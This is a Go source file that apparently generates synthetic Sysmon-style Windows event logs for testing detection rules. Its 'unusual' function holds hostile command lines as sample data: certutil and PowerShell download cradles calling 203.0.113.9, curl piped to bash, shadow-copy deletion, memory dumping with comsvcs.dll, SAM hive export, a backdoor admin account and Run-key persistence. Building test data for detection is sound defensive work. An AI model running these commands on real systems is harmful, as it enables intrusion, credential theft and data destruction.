package main

import "strings"

// start writes what all kinds but processes begin with.
func (g *generator) start(id int) {
	g.source("windows", categories[id], id, g.workstation())
	g.text("RuleName", "-")
	g.text("ProcessGuid", g.guid())
	g.number("ProcessId", 4*g.IntN(9000))
}

func (g *generator) network() {
	g.start(3)
	g.text("Image", g.program())
	g.text("User", g.account())
	g.text("Protocol", g.of("tcp", "tcp", "udp"))
	g.text("Initiated", g.of("true", "true", "true", "false"))
	g.text("SourceIsIpv6", "false")
	g.text("SourceIp", g.address())
	g.number("SourcePort", 49152+g.IntN(16000))
	g.text("DestinationIsIpv6", "false")
	g.text("DestinationIp", g.address())
	g.text("DestinationHostname", g.of("mail.office.example", "files%d.office.example", "cdn%d.vendor.example", "-"))
	g.number("DestinationPort", []int{443, 443, 443, 445, 53, 80, 389, 8443}[g.IntN(8)])
}

func (g *generator) file() {
	g.start(11)
	g.text("Image", g.program())
	g.text("TargetFilename", g.of(`C:\Users\%u\AppData\Local\Mozilla\Firefox\Profiles\%x.default\cache2\entries\%x`, `C:\Users\%u\Documents\~$budget %d.xlsx`,
		`C:\ProgramData\Backup\%x.cat`, `C:\Windows\Prefetch\SVCHOST.EXE-%x.pf`, `C:\Windows\Temp\cab_%d_%d`, `C:\Users\%u\AppData\Roaming\Slack\logs\%d.log`))
	g.text("CreationUtcTime", g.at.Format("2006-01-02 15:04:05.000"))
	g.text("User", g.account())
}

func (g *generator) registry() {
	g.start(13)
	g.text("EventType", "SetValue")
	g.text("Image", g.program())
	g.text("TargetObject", g.of(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tasks\{%x}\DynamicInfo`, `HKU\S-1-5-21-%d-%d\Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{%x}\Count`,
		`HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-%d\SequenceNumber`, `HKU\S-1-5-21-%d-%d\Software\Microsoft\Office\16.0\Excel\File MRU\Item %d`))
	g.text("Details", g.of("Binary Data", "DWORD (0x%x)", "QWORD (0x%x)", "value %d"))
	g.text("User", g.account())
}

func (g *generator) name() {
	g.start(22)
	g.text("QueryName", g.of("mail.office.example", "files%d.office.example", "cdn%d.vendor.example", "time%d.example", "%x.telemetry.example"))
	g.text("QueryStatus", g.of("0", "0", "0", "9003"))
	g.text("QueryResults", "::ffff:"+g.address()+";")
	g.text("Image", g.program())
	g.text("User", g.account())
}

func (g *generator) library() {
	g.start(7)
	g.text("Image", g.program())
	g.text("ImageLoaded", system32+g.of("ntdll", "kernel32", "user32", "advapi32", "msvcrt", "ole32", "shell32", "winhttp", "cryptsp", "mswsock")+".dll")
	g.text("FileVersion", "10.0.22621.1")
	g.text("Description", g.of("NT Layer DLL", "Windows NT BASE API Client DLL", "Microsoft OLE for Windows"))
	g.text("Product", windows)
	g.text("Company", microsoft)
	g.text("OriginalFileName", g.of("ntdll.dll", "kernel32", "OLE32.DLL"))
	g.text("Hashes", "SHA256="+strings.ToUpper(g.hex(64)))
	g.text("Signed", "true")
	g.text("Signature", "Microsoft Windows")
	g.text("SignatureStatus", "Valid")
	g.text("User", g.account())
}

func (g *generator) access() {
	g.start(10)
	g.text("SourceImage", g.program())
	g.text("TargetImage", g.program())
	g.text("GrantedAccess", g.of("0x1000", "0x1400", "0x3000"))
	g.text("CallTrace", system32+`ntdll.dll+`+g.hex(5)+"|"+system32+"KERNELBASE.dll+"+g.hex(5)+"|UNKNOWN("+g.hex(16)+")")
	g.text("SourceUser", g.account())
	g.text("TargetUser", g.account())
}

// unusual makes a process that rules look for.
func (g *generator) unusual() {
	shell := processed{parent: system32 + "cmd.exe", company: microsoft, product: windows}
	with := func(image, line string) {
		p := shell
		p.image, p.line = system32+image, line
		p.original = image[strings.LastIndexByte(image, '\\')+1:]
		p.about = p.original
		g.process(p)
	}
	switch g.IntN(9) {
	case 0:
		with("certutil.exe", g.of(`-urlcache -f http://203.0.113.9/%x.dat C:\Users\Public\%x.exe`))
	case 1:
		with("vssadmin.exe", "delete shadows /all /quiet")
	case 2:
		shell.parent = programFiles + `Microsoft Office\root\Office16\EXCEL.EXE`
		with(`WindowsPowerShell\v1.0\powershell.exe`, g.of("-w hidden -ep bypass -enc JABhAD0A%x", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/%x')"))
	case 3:
		with("rundll32.exe", g.of(`C:\Users\Public\%x.dll,Run`, system32+`comsvcs.dll, MiniDump %d C:\Windows\Temp\%x.dmp full`))
	case 4:
		with("schtasks.exe", g.of(`/create /tn %x /tr C:\Users\Public\%x.exe /sc minute /ru SYSTEM`))
	case 5:
		with("reg.exe", g.of(`add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v %x /d C:\Users\Public\%x.exe`, `save HKLM\SAM C:\Windows\Temp\%x`))
	case 6:
		with("net.exe", g.of("user %u Winter%d! /add", "localgroup administrators %u /add"))
	case 7:
		g.linux("/usr/bin/curl", g.of("-s http://203.0.113.9/%x.sh -o /tmp/%x.sh", "-k https://203.0.113.9/%x | bash"))
	default:
		g.linux(g.of("/usr/bin/base64", "/usr/bin/chmod", "/usr/bin/crontab"), g.of("-d /tmp/%x", "777 /tmp/%x", "/tmp/%x"))
	}
}
